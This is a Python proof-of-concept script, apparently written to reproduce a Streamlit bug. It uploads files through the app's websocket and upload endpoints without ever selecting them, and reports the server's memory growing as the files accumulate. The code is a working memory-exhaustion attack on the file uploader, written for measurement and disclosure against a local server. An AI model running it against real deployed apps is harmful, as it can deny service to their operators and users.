"""Upload files to a Streamlit app's uploader without ever choosing them, and watch the server's memory grow.

A browser tab does what this does when a script (or a curious student) asks for upload URLs and PUTs
files but never sends the widget state that chooses them: Streamlit keeps every such file in memory
for the session's life. Run the app (unchosen_uploads_app.py) with `streamlit run`, then:

    python unchosen_uploads_client.py http://127.0.0.1:8501 <server pid> [files] [MB each]

It prints the server's resident memory after each file (Linux, /proc). Seen with Streamlit 1.67 on
Python 3.11: 100 files of 5 MB from one tab, +500 MB in 20 s, none of it let go while the tab stays open.
"""

import asyncio
import os
import sys
import uuid

import requests
import websockets
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg


def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


async def main(url: str, pid: int, files: int, size_mb: int) -> None:
    http = requests.Session()
    http.get(f"{url}/_stcore/health", timeout=30).raise_for_status()  # the XSRF cookie a browser gets
    token = http.cookies.get("_streamlit_xsrf", "")
    cookie = {"Cookie": f"_streamlit_xsrf={token}"}
    ws_url = url.replace("http://", "ws://") + "/_stcore/stream"
    async with websockets.connect(ws_url, subprotocols=["streamlit"], additional_headers=cookie, max_size=None) as ws:
        run = BackMsg()
        run.rerun_script.query_string = ""
        await ws.send(run.SerializeToString())
        session_id = ""
        while not session_id:  # the first run's messages: its session id
            message = ForwardMsg()
            message.ParseFromString(await ws.recv())
            if message.WhichOneof("type") == "new_session":
                session_id = message.new_session.initialize.session_id
        print(f"server RSS before: {rss_mb(pid):.0f} MB")
        for index in range(files):
            ask = BackMsg()
            ask.file_urls_request.request_id, ask.file_urls_request.session_id = str(uuid.uuid4()), session_id
            ask.file_urls_request.file_names.append(f"photo-{index}.jpg")
            await ws.send(ask.SerializeToString())
            while True:
                message = ForwardMsg()
                message.ParseFromString(await ws.recv())
                if message.WhichOneof("type") == "file_urls_response":
                    upload_url = message.file_urls_response.file_urls[0].upload_url
                    break
            data = os.urandom(size_mb * 1_000_000)
            target = upload_url if upload_url.startswith("http") else url + upload_url
            http.put(
                target,
                files={"file": (f"photo-{index}.jpg", data, "image/jpeg")},
                headers={"X-Xsrftoken": token},
                timeout=120,
            ).raise_for_status()
            print(f"file {index + 1}: server RSS {rss_mb(pid):.0f} MB")  # never chosen: the uploader is still empty


if __name__ == "__main__":
    asyncio.run(
        main(
            sys.argv[1],
            int(sys.argv[2]),
            int(sys.argv[3]) if len(sys.argv) > 3 else 20,
            int(sys.argv[4]) if len(sys.argv) > 4 else 5,
        )
    )
